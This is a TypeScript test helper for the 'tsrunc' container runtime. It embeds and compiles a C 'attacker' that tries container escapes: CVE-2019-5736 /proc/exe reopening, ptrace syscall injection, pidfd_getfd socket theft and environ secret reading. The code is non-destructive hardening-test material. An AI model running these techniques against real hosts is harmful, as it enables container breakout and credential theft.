/**
 * An attacker for tests/integration/hardening_test.ts: a small static C program, compiled
 * with the host's gcc and copied into a test rootfs, that tries the things a hostile
 * process in a container would try against the runtime (CVE-2019-5736 and friends).
 * It never changes a host file: when it manages to open something for writing it writes
 * back the byte that is already there ("write-same"), which proves the write would have
 * worked without damaging anything.
 *
 * Every line it prints is `<what> <result>`, the result being `OK` or an errno name
 * (`EACCES`, `ETXTBSY`, ...), so tests match lines, not prose. Commands:
 *
 *   attack exe PID             readlink /proc/PID/exe, then open it O_WRONLY, O_RDWR and
 *                              O_WRONLY|O_APPEND (write-same when one works)
 *   attack mapfiles PID        every /proc/PID/map_files/* : readlink, open O_RDWR (no
 *                              write: opening is the proof)
 *   attack hold PID DIR        open /proc/PID/exe O_PATH, touch DIR/ready, wait until
 *                              /proc/PID/exe changes (the runtime execs the user's
 *                              program) or PID exits, then reopen the held fd through
 *                              /proc/self/fd/N for writing (the CVE-2019-5736 sequence);
 *                              results in DIR/result, DIR/done last
 *   attack ptrace PID          PTRACE_SEIZE (and detach); prints `ptrace <result>`
 *   attack peek PID            environ, fds (readlink + open), cwd, root, status lines
 *   attack parent              the same as exe + mapfiles + peek for getppid()
 *   attack scan SECS MARKER DIR for SECS seconds probe every other visible process (exe
 *                              readlink and O_WRONLY, environ and whether it holds
 *                              SECRET=, /proc/P/root and whether MARKER, a host path, is
 *                              visible through it, PTRACE_SEIZE); a line per change in
 *                              DIR/scan; DIR/ready first, DIR/done last; stops early
 *                              when DIR/stop appears
 *   attack inject PID PATH     make PID run mkdir(PATH) at its next syscall (ptrace:
 *                              seize, stop at a syscall entry, swap in mkdir, rewind to
 *                              redo the original call, detach); prints `inject <result>`,
 *                              mkdir's own result (OK, EPERM from a seccomp filter...) or
 *                              why it could not be tried (seize-EPERM...)
 *   attack helpers SECS DIR PATH
 *                              for SECS seconds watch for exec helpers (comm tsrunc:exec);
 *                              for each: `seen PID`, `getfd PID N <result>` for fds 3-4
 *                              (pidfd_getfd), `inject PID <result>` of mkdir(PATH); lines
 *                              in DIR/result, DIR/ready first, DIR/done last, stops early
 *                              when DIR/stop appears
 *   attack steal SECS DIR HOLD the same watch; takes fd 3 (the sync socket) of each helper,
 *                              sends a console hand-off carrying an fd of its own on it
 *                              (`steal PID <result>`, `send PID <result>`) and holds the
 *                              socket HOLD seconds before closing it
 */

/** The C source. */
export const ATTACK_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *en(int e) {
  const char *n = strerrorname_np(e);
  return n ? n : "E?";
}

static FILE *out;

/* Opens path with flags; on success writes back the first byte (write-same). */
static void try_write(const char *what, const char *path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0) {
    fprintf(out, "%s %s\n", what, en(errno));
    return;
  }
  char b = 0;
  int r = open(path, O_RDONLY | O_CLOEXEC);
  if (r >= 0) {
    if (pread(r, &b, 1, 0) != 1) b = 0;
    close(r);
  }
  ssize_t n = (flags & O_APPEND) ? write(fd, "", 0) : pwrite(fd, &b, 1, 0);
  fprintf(out, "%s %s\n", what, n < 0 ? en(errno) : "OK");
  close(fd);
}

static void do_exe(int pid) {
  char path[64], link[4096];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, link, sizeof link - 1);
  if (n < 0) fprintf(out, "readlink-exe %s\n", en(errno));
  else {
    link[n] = 0;
    fprintf(out, "readlink-exe %s\n", link);
  }
  int ro = open(path, O_RDONLY | O_CLOEXEC);
  fprintf(out, "open-exe-rdonly %s\n", ro < 0 ? en(errno) : "OK");
  if (ro >= 0) close(ro);
  try_write("open-exe-wronly", path, O_WRONLY);
  try_write("open-exe-rdwr", path, O_RDWR);
  try_write("open-exe-append", path, O_WRONLY | O_APPEND);
}

static void do_mapfiles(int pid) {
  char dir[64];
  snprintf(dir, sizeof dir, "/proc/%d/map_files", pid);
  DIR *d = opendir(dir);
  if (!d) {
    fprintf(out, "mapfiles-list %s\n", en(errno));
    return;
  }
  struct dirent *e;
  int count = 0;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char path[512], link[4096], what[4200];
    snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n < 0) snprintf(link, sizeof link, "(%s)", en(errno));
    else link[n] = 0;
    snprintf(what, sizeof what, "mapfile %s %s", e->d_name, link);
    /* Opening is the proof: no write-same here, these may be the host's libraries. */
    int fd = open(path, O_RDWR | O_CLOEXEC);
    fprintf(out, "%s %s\n", what, fd < 0 ? en(errno) : "OK");
    if (fd >= 0) close(fd);
    count++;
  }
  closedir(d);
  fprintf(out, "mapfiles-count %d\n", count);
}

static void do_peek(int pid) {
  char path[128], link[4096], buf[8192];
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) fprintf(out, "environ %s\n", en(errno));
  else {
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) fprintf(out, "environ %s\n", en(errno));
    else {
      buf[n] = 0;
      fprintf(out, "environ OK\n");
      for (char *p = buf; p < buf + n; p += strlen(p) + 1) fprintf(out, "env %s\n", p);
    }
    close(fd);
  }
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *d = opendir(path);
  if (!d) fprintf(out, "fds %s\n", en(errno));
  else {
    struct dirent *e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      char p[256];
      snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, e->d_name);
      ssize_t n = readlink(p, link, sizeof link - 1);
      if (n < 0) snprintf(link, sizeof link, "(%s)", en(errno));
      else link[n] = 0;
      /* Never open a fifo: opening the exec fifo for reading would start the container. */
      struct stat st;
      if (stat(p, &st) == 0 && S_ISFIFO(st.st_mode)) {
        fprintf(out, "fd %s %s open=fifo\n", e->d_name, link);
        continue;
      }
      int o = open(p, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
      fprintf(out, "fd %s %s open=%s\n", e->d_name, link, o < 0 ? en(errno) : "OK");
      if (o >= 0) close(o);
    }
    closedir(d);
  }
  for (int i = 0; i < 2; i++) {
    const char *name = i ? "root" : "cwd";
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n < 0) fprintf(out, "%s %s\n", name, en(errno));
    else {
      link[n] = 0;
      fprintf(out, "%s %s\n", name, link);
    }
    /* What is there: a host directory would show the host's files. */
    snprintf(path, sizeof path, "/proc/%d/%s/", pid, name);
    DIR *r = opendir(path);
    fprintf(out, "%s-list %s\n", name, r ? "OK" : en(errno));
    if (r) closedir(r);
  }
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *f = fopen(path, "re");
  if (!f) fprintf(out, "status %s\n", en(errno));
  else {
    while (fgets(buf, sizeof buf, f))
      if (!strncmp(buf, "Cap", 3) || !strncmp(buf, "NoNewPrivs", 10) ||
          !strncmp(buf, "Seccomp:", 8) || !strncmp(buf, "Uid", 3) || !strncmp(buf, "Name", 4) ||
          !strncmp(buf, "TracerPid", 9))
        fprintf(out, "status %s", buf);
    fclose(f);
  }
}

/* PTRACE_SEIZE; when it works, stop the tracee and detach again so it runs on as before. */
static const char *seize(int pid) {
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return en(errno);
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
    int status;
    waitpid(pid, &status, __WALL);
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return "OK";
}

static void do_ptrace(int pid) { fprintf(out, "ptrace %s\n", seize(pid)); }

static void sleep_ms(int ms) {
  struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&t, NULL);
}

static void touch(const char *dir, const char *name) {
  char p[512];
  snprintf(p, sizeof p, "%s/%s", dir, name);
  int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) close(fd);
}

static int do_hold(int pid, const char *dir) {
  char path[64], before[4096] = "", now[4096];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  char result[512];
  snprintf(result, sizeof result, "%s/result", dir);
  out = fopen(result, "we");
  if (!out) return 1;
  setvbuf(out, NULL, _IOLBF, 0);
  ssize_t n = readlink(path, before, sizeof before - 1);
  if (n >= 0) before[n] = 0;
  fprintf(out, "held-exe %s\n", n < 0 ? en(errno) : before);
  int fd = open(path, O_PATH | O_CLOEXEC);
  fprintf(out, "open-path %s\n", fd < 0 ? en(errno) : "OK");
  touch(dir, "ready");
  if (fd >= 0) {
    /* Wait (up to 30 s) for the runtime to exec the user's program or to exit. */
    for (int i = 0; i < 3000; i++) {
      n = readlink(path, now, sizeof now - 1);
      if (n < 0) break;
      now[n] = 0;
      if (strcmp(now, before)) break;
      sleep_ms(10);
    }
    fprintf(out, "exe-now %s\n", n < 0 ? en(errno) : now);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    try_write("reopen-wronly", self, O_WRONLY);
    try_write("reopen-rdwr", self, O_RDWR);
  }
  fclose(out);
  touch(dir, "done");
  return 0;
}

/* One look at pid: what of it this process can reach. */
static void probe(int pid, const char *marker, char *line, size_t cap) {
  char path[256], buf[8192], name[64] = "?", capeff[32] = "?", exe[256];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  FILE *f = fopen(path, "re");
  if (f) {
    while (fgets(buf, sizeof buf, f)) {
      if (!strncmp(buf, "Name:", 5)) sscanf(buf + 5, "%63s", name);
      if (!strncmp(buf, "CapEff:", 7)) sscanf(buf + 7, "%31s", capeff);
    }
    fclose(f);
  }
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, exe, sizeof exe - 1);
  if (n < 0) snprintf(exe, sizeof exe, "%s", en(errno));
  else exe[n] = 0;
  for (char *c = exe; *c; c++)
    if (*c == ' ') *c = '_';
  int w = open(path, O_WRONLY | O_CLOEXEC);
  const char *wr = w < 0 ? en(errno) : "OK";
  if (w >= 0) close(w);
  snprintf(path, sizeof path, "/proc/%d/environ", pid);
  const char *environ = "?", *secret = "no";
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) environ = en(errno);
  else {
    n = read(fd, buf, sizeof buf - 1);
    if (n < 0) environ = en(errno);
    else {
      environ = "OK";
      buf[n] = 0;
      for (char *p = buf; p < buf + n; p += strlen(p) + 1)
        if (!strncmp(p, "SECRET=", 7)) secret = "yes";
    }
    close(fd);
  }
  snprintf(path, sizeof path, "/proc/%d/root/", pid);
  DIR *d = opendir(path);
  const char *root = d ? "OK" : en(errno);
  if (d) closedir(d);
  snprintf(path, sizeof path, "/proc/%d/root%s", pid, marker);
  struct stat st;
  const char *host = stat(path, &st) == 0 ? "yes" : "no";
  const char *pt = seize(pid);
  /* Capabilities that changed while we looked: the line would mix two states. */
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  f = fopen(path, "re");
  if (f) {
    char again[32] = "?";
    while (fgets(buf, sizeof buf, f))
      if (!strncmp(buf, "CapEff:", 7)) sscanf(buf + 7, "%31s", again);
    fclose(f);
    if (strcmp(again, capeff)) snprintf(capeff, sizeof capeff, "changed");
  }
  snprintf(line, cap,
           "probe pid=%d name=%s capeff=%s exe=%s exe-wronly=%s environ=%s secret=%s root=%s "
           "host-marker=%s ptrace=%s",
           pid, name, capeff, exe, wr, environ, secret, root, host, pt);
}

/* A watch's work directory: its results in DIR/NAME (line-buffered, as out), the path of
 * DIR/stop, and the time it started. */
static int open_watch(const char *dir, const char *name, char *stop, size_t cap,
                      struct timespec *start) {
  char result[512];
  snprintf(result, sizeof result, "%s/%s", dir, name);
  snprintf(stop, cap, "%s/stop", dir);
  out = fopen(result, "we");
  if (!out) return -1;
  setvbuf(out, NULL, _IOLBF, 0);
  clock_gettime(CLOCK_MONOTONIC, start);
  return 0;
}

/* Whether a watch goes on: less than SECONDS since start, and no stop file. */
static int watching(const struct timespec *start, int seconds, const char *stop) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec - start->tv_sec < seconds && access(stop, F_OK) != 0;
}

/* Probes every other process every few ms for SECONDS; prints a line whenever what a
 * pid shows changes. */
static int do_scan(int seconds, const char *marker, const char *dir) {
  char stop[512];
  struct timespec start;
  if (open_watch(dir, "scan", stop, sizeof stop, &start) < 0) return 1;
  enum { MAXP = 256 };
  static int pids[MAXP];
  static char last[MAXP][1024];
  int npids = 0;
  touch(dir, "ready");
  int self = getpid();
  while (watching(&start, seconds, stop)) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char line[1024];
      probe(pid, marker, line, sizeof line);
      int i = 0;
      while (i < npids && pids[i] != pid) i++;
      if (i == npids) {
        if (npids == MAXP) continue;
        pids[npids++] = pid;
        last[i][0] = 0;
      }
      if (strcmp(last[i], line)) {
        snprintf(last[i], sizeof last[i], "%s", line);
        fprintf(out, "%s\n", line);
      }
    }
    if (d) closedir(d);
    sleep_ms(5);
  }
  fclose(out);
  touch(dir, "done");
  return 0;
}

/* mkdir(path, 0755) run by pid at its next syscall; mkdir's result, or why it was not
 * tried. seccomp runs after the syscall-entry stop, so a filter the tracee has loaded
 * judges the swapped-in mkdir as if the tracee had asked for it. */
static void inject_mkdir(int pid, const char *path, char *res, size_t cap) {
  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) {
    snprintf(res, cap, "seize-%s", en(errno));
    return;
  }
  int st;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0) {
    snprintf(res, cap, "interrupt-%s", en(errno));
    goto detach;
  }
  for (int i = 0;; i++) {
    if (i == 16 || ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
        !WIFSTOPPED(st)) {
      snprintf(res, cap, "no-syscall-stop");
      goto detach;
    }
    if (WSTOPSIG(st) == (SIGTRAP | 0x80)) break; /* a syscall-entry stop */
  }
  struct user_regs_struct saved, r;
  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
    snprintf(res, cap, "getregs-%s", en(errno));
    goto detach;
  }
  /* The path goes below the tracee's stack pointer (past the red zone). */
  unsigned long addr = (saved.rsp - 1024) & ~15UL;
  size_t len = strlen(path) + 1;
  for (size_t off = 0; off < len; off += 8) {
    long word = 0;
    memcpy(&word, path + off, len - off < 8 ? len - off : 8);
    if (ptrace(PTRACE_POKEDATA, pid, addr + off, word) < 0) {
      snprintf(res, cap, "poke-%s", en(errno));
      goto detach;
    }
  }
  r = saved;
  r.orig_rax = SYS_mkdir;
  r.rdi = addr;
  r.rsi = 0755;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 ||
      waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st) ||
      ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) {
    snprintf(res, cap, "run-failed");
    goto detach;
  }
  long result = (long)r.rax;
  /* Back to the syscall instruction with the original number and arguments. */
  saved.rax = saved.orig_rax;
  saved.rip -= 2;
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  snprintf(res, cap, "%s", result == 0 ? "OK" : en((int)-result));
detach:
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void do_inject(int pid, const char *path) {
  char res[64];
  inject_mkdir(pid, path, res, sizeof res);
  fprintf(out, "inject %s\n", res);
}

static int is_helper(int pid) {
  char path[64], comm[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, comm, sizeof comm - 1);
  close(fd);
  if (n <= 0) return 0;
  comm[n] = 0;
  return strcmp(comm, "tsrunc:exec\n") == 0;
}

/* A copy of pid's fd n, through pidfd_getfd (needs the right to ptrace pid). */
static int getfd(int pid, int n, int *err) {
  int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
  if (pidfd < 0) {
    *err = errno;
    return -1;
  }
  int fd = (int)syscall(438 /* pidfd_getfd */, pidfd, n, 0);
  *err = errno;
  close(pidfd);
  return fd;
}

/* The executor's console hand-off (sync.h: type 5, an fd by SCM_RIGHTS) with our fd. */
static int send_console(int sock, int pass) {
  int32_t header[4] = {5, 0, 0, 0};
  struct iovec iov = {header, sizeof header};
  union {
    struct cmsghdr align;
    char buf[CMSG_SPACE(sizeof(int))];
  } control = {0};
  struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf,
                     .msg_controllen = sizeof control.buf};
  struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
  cm->cmsg_level = SOL_SOCKET;
  cm->cmsg_type = SCM_RIGHTS;
  cm->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(cm), &pass, sizeof(int));
  return sendmsg(sock, &m, MSG_NOSIGNAL) < 0 ? -1 : 0;
}

/* Watches for exec helpers for SECS seconds and attacks each once (mode "helpers" or
 * "steal"). */
static int do_watch(const char *mode, int seconds, const char *dir, const char *arg) {
  char stop[512];
  struct timespec start;
  if (open_watch(dir, "result", stop, sizeof stop, &start) < 0) return 1;
  enum { MAXP = 1024 };
  static int done[MAXP];
  int ndone = 0, self = getpid();
  touch(dir, "ready");
  while (watching(&start, seconds, stop)) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name), seen = 0;
      if (pid <= 0 || pid == self) continue;
      for (int i = 0; i < ndone && !seen; i++) seen = done[i] == pid;
      if (seen || ndone == MAXP || !is_helper(pid)) continue;
      done[ndone++] = pid;
      fprintf(out, "seen %d\n", pid);
      /* Tried again and again while it is a helper: the window that matters is the last
       * one, once it has the container's capabilities, before its execve. */
      int err = ESRCH, tries = 0;
      if (!strcmp(mode, "helpers")) {
        char res[64] = "seize-ESRCH";
        int fd = -1;
        while (fd < 0 && !strncmp(res, "seize-", 6) && is_helper(pid)) {
          tries++;
          fd = getfd(pid, 3, &err);
          if (fd < 0) inject_mkdir(pid, arg, res, sizeof res);
        }
        fprintf(out, "tries %d %d\n", pid, tries);
        fprintf(out, "getfd %d 3 %s\n", pid, fd < 0 ? en(err) : "OK");
        if (fd >= 0) {
          close(fd);
          int fd4 = getfd(pid, 4, &err);
          fprintf(out, "getfd %d 4 %s\n", pid, fd4 < 0 ? en(err) : "OK");
          if (fd4 >= 0) close(fd4);
          inject_mkdir(pid, arg, res, sizeof res);
        }
        fprintf(out, "inject %d %s\n", pid, res);
      } else {
        int sock = -1;
        while (sock < 0 && is_helper(pid)) {
          tries++;
          sock = getfd(pid, 3, &err);
        }
        fprintf(out, "tries %d %d\n", pid, tries);
        fprintf(out, "steal %d %s\n", pid, sock < 0 ? en(err) : "OK");
        if (sock < 0) continue;
        int mine = open("/", O_PATH | O_CLOEXEC);
        fprintf(out, "send %d %s\n", pid, send_console(sock, mine) < 0 ? en(errno) : "OK");
        close(mine);
        sleep_ms(atoi(arg) * 1000);
        close(sock);
      }
    }
    if (d) closedir(d);
  }
  fclose(out);
  touch(dir, "done");
  return 0;
}

int main(int argc, char **argv) {
  out = stdout;
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    fprintf(stderr, "usage: attack exe|mapfiles|hold|ptrace|peek|parent|inject|helpers|steal ...\n");
    return 2;
  }
  const char *cmd = argv[1];
  int pid = argc > 2 ? atoi(argv[2]) : 0;
  if (!strcmp(cmd, "exe")) do_exe(pid);
  else if (!strcmp(cmd, "mapfiles")) do_mapfiles(pid);
  else if (!strcmp(cmd, "hold") && argc > 3) return do_hold(pid, argv[3]);
  else if (!strcmp(cmd, "ptrace")) do_ptrace(pid);
  else if (!strcmp(cmd, "scan") && argc > 4) return do_scan(pid, argv[3], argv[4]);
  else if (!strcmp(cmd, "peek")) do_peek(pid);
  else if (!strcmp(cmd, "inject") && argc > 3) do_inject(pid, argv[3]);
  else if ((!strcmp(cmd, "helpers") || !strcmp(cmd, "steal")) && argc > 4)
    return do_watch(cmd, pid, argv[3], argv[4]);
  else if (!strcmp(cmd, "parent")) {
    int ppid = getppid();
    fprintf(out, "ppid %d\n", ppid);
    if (ppid > 0) {
      do_exe(ppid);
      do_mapfiles(ppid);
      do_peek(ppid);
      do_ptrace(ppid);
    }
  } else {
    fprintf(stderr, "attack: unknown command %s\n", cmd);
    return 2;
  }
  return 0;
}
`;

/** Compile the attacker (static, so it runs in the busybox rootfs) to `dest`. */
export function buildAttacker(dest: string): void {
  const src = `${dest}.c`;
  Deno.writeTextFileSync(src, ATTACK_C);
  try {
    const out = new Deno.Command("gcc", {
      args: ["-O1", "-static", "-o", dest, src],
      stdout: "piped",
      stderr: "piped",
    }).outputSync();
    if (!out.success) {
      throw new Error(`gcc failed: ${new TextDecoder().decode(out.stderr)}`);
    }
  } finally {
    Deno.removeSync(src);
  }
}

let built: string | undefined;

/**
 * Copy the attacker into a rootfs as /bin/attack. It is compiled once per test run into a
 * temporary directory that is removed when the test module unloads.
 */
export function installAttacker(rootfs: string): void {
  if (built === undefined) {
    const dir = Deno.makeTempDirSync({ prefix: "tsrunc-attacker-" });
    globalThis.addEventListener("unload", () => Deno.removeSync(dir, { recursive: true }));
    buildAttacker(`${dir}/attack`);
    built = `${dir}/attack`;
  }
  Deno.copyFileSync(built, `${rootfs}/bin/attack`);
  Deno.chmodSync(`${rootfs}/bin/attack`, 0o755);
}

/** The attacker's `<what> <result>` lines as a map (the last line of a key wins). */
export function parseAttack(text: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const line of text.split("\n")) {
    const at = line.indexOf(" ");
    if (at > 0) out.set(line.slice(0, at), line.slice(at + 1));
  }
  return out;
}

/** The attacker's lines starting with `prefix ` (e.g. all "fd" or "mapfile" lines). */
export function attackLines(text: string, prefix: string): string[] {
  return text.split("\n").filter((l) => l.startsWith(`${prefix} `));
}

/** sha256 of files, hex, by path (sha256sum: several times faster than WebCrypto here). */
export function sha256(paths: string[]): Record<string, string> {
  if (paths.length === 0) return {};
  const out = new Deno.Command("sha256sum", { args: ["--", ...paths], stdout: "piped" })
    .outputSync();
  if (!out.success) throw new Error(`sha256sum ${paths.join(" ")} failed`);
  const sums: Record<string, string> = {};
  for (const line of new TextDecoder().decode(out.stdout).split("\n")) {
    const m = /^([0-9a-f]{64}) [ *](.*)$/.exec(line);
    if (m) sums[m[2]] = m[1];
  }
  return sums;
}

/**
 * The runtime's host files a container must never be able to change: the installed
 * tsrunc (launcher, Deno, bundle, executor, libcore.so) and whatever $TSRUNC points at.
 */
export function runtimeFiles(): string[] {
  const files = [
    "/usr/local/sbin/tsrunc",
    "/usr/local/lib/tsrunc/deno",
    "/usr/local/lib/tsrunc/executor",
    "/usr/local/lib/tsrunc/libcore.so",
    "/usr/local/lib/tsrunc/tsrunc.js",
  ];
  const configured = Deno.env.get("TSRUNC");
  if (configured) files.push(Deno.realPathSync(configured));
  return [...new Set(files)].filter((f) => {
    try {
      return Deno.statSync(f).isFile;
    } catch {
      return false;
    }
  });
}

/** sha256 of every runtime file. */
export function runtimeHashes(): Record<string, string> {
  return sha256(runtimeFiles());
}
